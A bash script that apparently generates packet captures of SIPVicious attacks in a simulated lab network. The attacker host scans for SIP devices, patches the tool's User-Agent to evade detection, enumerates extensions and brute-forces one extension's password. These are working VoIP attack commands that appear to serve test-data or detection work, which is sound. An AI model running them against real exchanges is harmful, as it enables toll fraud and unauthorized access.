#!/usr/bin/env bash
# options-scan, options-scan-quiet, register-enumeration, register-bruteforce: SIPVicious against an exchange.
. "$(dirname "$0")/network.sh"

switch_up
host exchange 192.0.2.10
host others 192.0.2.33
host attacker 198.51.100.23 198.51.100.77 203.0.113.66
at others ip route add local 192.0.2.32/27 dev lo       # the rest of the network: it is there, but has no SIP
export HOME=$work PYTHONWARNINGS=ignore
exchange_up udp:192.0.2.10:5060

# The whole network is asked for SIP devices, by the tool as it comes.
record options-scan.pcap -- 'udp or icmp'
at attacker svmap -b 198.51.100.23 -x 198.51.100.23 192.0.2.8-12 192.0.2.32/27 >"$work/svmap.log" 2>&1
recorded
keep options-scan.pcap 2026-03-03T13:20:00Z -F pcap

# The same tool with another User-Agent, and at leisure.
mkdir "$work/quiet" && cp -r /usr/share/sipvicious/sipvicious "$work/quiet/"
sed -i "s/useragent='friendly-scanner'/useragent='Desk Phone 410\/2.1.7'/; s/'friendly-scanner'/'Desk Phone 410\/2.1.7'/" \
  "$work"/quiet/sipvicious/libs/*.py "$work"/quiet/sipvicious/*.py
record options-scan-quiet.pcapng -- 'udp or icmp'
(cd "$work/quiet" && at attacker /usr/bin/python3 -m sipvicious.svmap -b 198.51.100.77 -x 198.51.100.77 -t 0.2 \
  192.0.2.8-12 192.0.2.40-47 >"$work/svmap-quiet.log" 2>&1)
recorded
keep options-scan-quiet.pcapng 2026-03-03T15:05:00Z -F pcapng

# Which extensions exist? 404 says no, 401 says yes, 403 says locked.
record register-enumeration.pcap -- 'udp or icmp'
at attacker svwar -b 198.51.100.23 -x 198.51.100.23 -e 190-230 192.0.2.10 >"$work/svwar.log" 2>&1
recorded
keep register-enumeration.pcap 2026-03-03T13:22:00Z -F pcap

# The password of one of them, which is the last in the list.
for n in $(seq 1000 1024); do echo "$n"; done >"$work/passwords"
echo pass-203 >>"$work/passwords"
record register-bruteforce.pcap -- 'udp or icmp'
at attacker svcrack -b 198.51.100.23 -x 198.51.100.23 -u 203 -d "$work/passwords" 192.0.2.10 >"$work/svcrack.log" 2>&1
recorded
keep register-bruteforce.pcap 2026-03-03T13:25:00Z -F pcap
